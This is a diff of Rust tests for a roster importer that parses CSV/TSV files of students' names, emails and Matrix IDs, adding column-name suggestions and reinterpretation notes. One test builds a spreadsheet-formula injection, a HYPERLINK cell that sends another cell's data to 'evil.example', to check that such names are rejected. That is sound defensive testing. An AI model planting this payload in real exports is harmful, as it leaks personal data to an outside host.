@@ -6,7 +6,7 @@ fn read_as(text: &str, reading: Reading) -> Result<Sheet, Unfit> {
     read(text.as_bytes(), &TimeZone::get("Europe/London").unwrap(), &reading)
 }
 
-fn read_text(text: &str) -> Result<Sheet, Vec<BadLine>> {
+fn read_text(text: &str) -> Result<Sheet, Vec<AboutLine>> {
     read_as(text, Reading::default()).map_err(|unfit| match unfit {
         Unfit::Lines(bad) => bad,
         Unfit::DateOrder(unclear) => panic!("{unclear:?}"),
@@ -23,7 +23,7 @@ fn columns_come_in_any_order_under_the_names_that_people_give_them() {
         plain.replace('\n', "\r\n"),
         format!("{plain}\n,,,,,,,,\n"),
         "Role;Full Name;E-Mail;Matrix ID;Valid until;Course;Year Group\n\
-         Student;Sam  Reed; sam@mail.example ;@Sam:example.org;2027-06-30;History, second year;2026"
+         Student;Sam  Reed; sam@mail.example ;@sam:Example.org;2027-06-30;History, second year;2026"
             .to_owned(),
         "address\tROLE\tMXID\tname\tends\tsubject\tcohort\n\
          sam@mail.example\tstudent\t@sam:example.org\tSam Reed\t2027-06-30\tHistory, second year\t2026\n"
@@ -69,8 +69,8 @@ fn each_bad_line_is_named_with_what_is_wrong_and_what_would_be_right() {
         (",sam@mail.example,,student,,", "name: expected a name, found nothing"),
         (
             "S\u{0430}m,sam@mail.example,,student,,",
-            "name: the name \"S\u{0430}m\" mixes alphabets so that it can be read as another name; write it in one \
-             alphabet",
+            "name: the name \"S\u{0430}m\" mixes alphabets so that it can be read as another name; write each word in \
+             one alphabet",
         ),
         (
             "Sam,=sam@mail.example,,student,,",
@@ -105,7 +105,7 @@ fn each_bad_line_is_named_with_what_is_wrong_and_what_would_be_right() {
     ];
     let file = bad.iter().fold(head.to_owned(), |file, (line, _)| format!("{file}{line}\n"));
     let named = read_text(&file).unwrap_err();
-    let expected = bad.iter().zip(2..).map(|((_, what), line)| BadLine { line, what: (*what).to_owned() });
+    let expected = bad.iter().zip(2..).map(|((_, what), line)| AboutLine { line, what: (*what).to_owned() });
     assert_eq!(named, expected.collect::<Vec<_>>());
     let long = format!("{head}\"Sam\",sam@mail.example,,student,{},\n", "x".repeat(201));
     assert_eq!(read_text(&long).unwrap_err()[0].what, "organisation: expected at most 200 characters, found 201");
@@ -118,7 +118,7 @@ fn no_name_is_a_formula_to_a_spreadsheet() {
         let cell = format!("{sign}HYPERLINK(\"\"http://evil.example/?c=\"\"&D2)");
         let named =
             read_text(&format!("name,email,role\nNoor,n@mail.example,student\n\"{cell}\",s@mail.example,student\n"));
-        let [BadLine { line: 3, what }] = &named.unwrap_err()[..] else { panic!("{cell}") };
+        let [AboutLine { line: 3, what }] = &named.unwrap_err()[..] else { panic!("{cell}") };
         assert!(what.contains("which spreadsheets take for a formula"), "{what}");
     }
     for name in ["Anne-Marie", "Jean-", "O’Brien", "'Afa", "Sam (=Pat)"] {
@@ -146,12 +146,73 @@ fn a_first_line_that_leaves_something_open_is_named() {
         ),
         (
             "name,email,role,valid_untill",
-            &format!("there is no column \"valid_untill\"; expected some of {}", columns::COLUMNS),
+            &format!(
+                "there is no column \"valid_untill\"; did you mean valid_until?; expected some of {}",
+                columns::COLUMNS
+            ),
         ),
+        ("name,email,role,phone", &format!("there is no column \"phone\"; expected some of {}", columns::COLUMNS)),
     ] {
         let named = read_text(&format!("{head}\n")).or_else(|_| read_text(head)).unwrap_err();
         assert_eq!(named, [bad_line(1, what)], "{head}");
     }
+}
+
+#[test]
+fn a_column_that_was_renamed_is_suggested() {
+    for (name, meant) in [
+        ("Student name", "name"),
+        ("Preferred Name", "name"),
+        ("surname", "name"),
+        ("E-Mail (work)", "email"),
+        ("student_email", "email"),
+        ("emial", "email"),
+        ("Matrix-ID of the student", "matrix_id"),
+        ("Rôle", "role"),
+        ("Role at service", "role"),
+        ("Valid until (date)", "valid_until"),
+        ("Expiry date", "valid_until"),
+        ("Organisaton", "organisation"),
+        ("Course title", "course"),
+        ("Cohort year", "cohort"),
+    ] {
+        let bad = read_text(&format!("name,email,role,{name}\n")).unwrap_err();
+        let expected = format!("there is no column \"{name}\"; did you mean {meant}?");
+        assert!(bad.iter().any(|bad| bad.line == 1 && bad.what.starts_with(&expected)), "{bad:?}");
+    }
+    for name in ["phone", "Photo", "Nationality", "Date of birth", "Gender", "ID", "Postcode", "Faculty"] {
+        let bad = read_text(&format!("name,email,role,{name}\n")).unwrap_err();
+        assert!(!bad[0].what.contains("did you mean"), "{bad:?}");
+    }
+}
+
+#[test]
+fn what_is_taken_otherwise_than_it_is_written_is_said() {
+    let file = format!(
+        "name,email,matrix_id,role,valid_until,course\n\
+         Sam,s@m.example,@Sam:example.org,student,46568,\"History\r\nand art\"\n\
+         {},n@m.example,@noor:Example.org,student,2027-06-30,Physics\n\
+         \"Ivy\nPoe\",i@m.example,,student,,\n",
+        "x".repeat(81)
+    );
+    let sheet = read_text(&file).unwrap();
+    let notes: Vec<String> = sheet.notes.iter().map(ToString::to_string).collect();
+    let ends = |text| {
+        format!("a line ends within \"{text}\"; if that was not meant, look for a quotation mark that is not closed")
+    };
+    let expected = [
+        "line 2: valid_until: 46568 is taken for 2027-06-30, as spreadsheets count days".to_owned(),
+        "line 2: matrix_id: @Sam:example.org is taken as @sam:example.org; an old account whose id has capital letters \
+         cannot be listed, and comes in by a code"
+            .to_owned(),
+        format!("line 2: course: {}", ends("History and art")),
+        format!(
+            "line 4: name: 81 characters are more than fit in a name, so it is taken as \"{}\"",
+            "x".repeat(80)
+        ),
+        format!("line 5: name: {}", ends("Ivy Poe")),
+    ];
+    assert_eq!(notes, expected);
 }
 
 #[test]
@@ -233,6 +294,6 @@ fn nobody_is_swallowed_by_a_quotation_mark_and_nothing_stands_where_it_is_not_re
     }
 }
 
-fn bad_line(line: u64, what: &str) -> BadLine {
-    BadLine { line, what: what.to_owned() }
+fn bad_line(line: u64, what: &str) -> AboutLine {
+    AboutLine { line, what: what.to_owned() }
 }
